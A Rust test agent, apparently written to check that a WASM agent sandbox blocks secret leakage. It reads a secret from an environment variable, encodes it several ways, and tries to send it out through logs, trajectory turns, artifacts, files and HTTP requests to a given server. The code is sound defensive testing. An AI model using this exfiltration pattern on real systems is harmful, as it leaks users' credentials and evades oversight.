//! A secret the guest knows leaves it through no channel and in no encoding.
//!
//! The task is the address of a server; the secret is in the variable `KNOWN`.

use std::fmt::Write as _;

use serde_json::{Value, json};
use wasip2::http::outgoing_handler::handle;
use wasip2::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
use wasm_agent_sdk::trajectory::{self, Turn};
use wasm_agent_sdk::{Commission, Result, agent, session};

agent!(run);

const BASE64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

fn base64(text: &str) -> String {
    let mut out = String::new();
    for group in text.as_bytes().chunks(3) {
        let bits = group
            .iter()
            .fold(0u32, |bits, byte| bits << 8 | u32::from(*byte));
        let bits = bits << (8 * (3 - group.len()));
        for digit in 0..4 {
            if digit <= group.len() {
                out.push(BASE64[(bits >> (18 - 6 * digit) & 63) as usize].into());
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn forms(secret: &str) -> Vec<String> {
    let each = |write: fn(&mut String, u8)| {
        let mut out = String::new();
        secret.bytes().for_each(|byte| write(&mut out, byte));
        out
    };
    vec![
        secret.to_owned(),
        base64(secret),
        base64(&format!("u:{secret}")),
        base64(&format!("us:{secret}")),
        each(|out, byte| write!(out, "{byte:02x}").unwrap()),
        each(|out, byte| write!(out, "{byte:02X}").unwrap()),
        each(|out, byte| write!(out, "%{byte:02X}").unwrap()),
        each(|out, byte| write!(out, "\\u{byte:04x}").unwrap()),
    ]
}

fn run(commission: Commission) -> Result<Value> {
    let server = commission.prompt().to_owned();
    let secret = std::env::var("KNOWN").expect("there is a secret");
    let mut came_through = Vec::new();
    for (at, form) in forms(&secret).into_iter().enumerate() {
        let mut note = |channel: &str, passed: bool| {
            if passed {
                came_through.push(json!([channel, at]));
            }
        };
        println!("out {form}");
        eprintln!("err {form}");
        // In two pieces.
        let (head, tail) = form.split_at(form.len() / 2);
        print!("{head}");
        println!("{tail}");
        note(
            "turn",
            trajectory::assistant(Turn::new().text(&form)).is_ok(),
        );
        note("progress", trajectory::progress(&form, None).is_ok());
        note(
            "artifact",
            session::submit_artifact(format!("a{at}"), "text/plain", form.as_bytes()).is_ok(),
        );
        note("checkpoint", session::save(form.as_bytes()).is_ok());
        note(
            "file",
            std::fs::write(format!("/work/f{at}"), &form).is_ok(),
        );
        note(
            "url",
            send(
                &server,
                &format!("/?q={}", form.replace('\\', "%5C")),
                None,
                "",
            )
            .is_ok(),
        );
        note("header", send(&server, "/", Some(&form), "").is_ok());
        note("body", send(&server, "/", None, &form).is_ok());
    }
    note_completion(&secret, &mut came_through);
    if server.ends_with("/answer") {
        return Ok(json!({ "secret": secret }));
    }
    Ok(Value::Array(came_through))
}

fn note_completion(secret: &str, came_through: &mut Vec<Value>) {
    if session::complete(secret).is_ok() {
        came_through.push(json!("completion"));
    }
}

fn send(server: &str, path: &str, header: Option<&str>, body: &str) -> std::result::Result<(), ()> {
    let fields = Fields::new();
    if let Some(header) = header {
        fields.append("x-given", header.as_bytes()).map_err(drop)?;
    }
    let request = OutgoingRequest::new(fields);
    request.set_method(&Method::Post)?;
    request.set_scheme(Some(&Scheme::Http))?;
    request.set_authority(server.split('/').next())?;
    request.set_path_with_query(Some(path))?;
    let outgoing = request.body()?;
    let future = handle(request, None).map_err(drop)?;
    if !body.is_empty() {
        let stream = outgoing.write()?;
        stream
            .blocking_write_and_flush(body.as_bytes())
            .map_err(drop)?;
    }
    OutgoingBody::finish(outgoing, None).map_err(drop)?;
    future.subscribe().block();
    match future.get() {
        Some(Ok(Ok(_))) => Ok(()),
        _ => Err(()),
    }
}
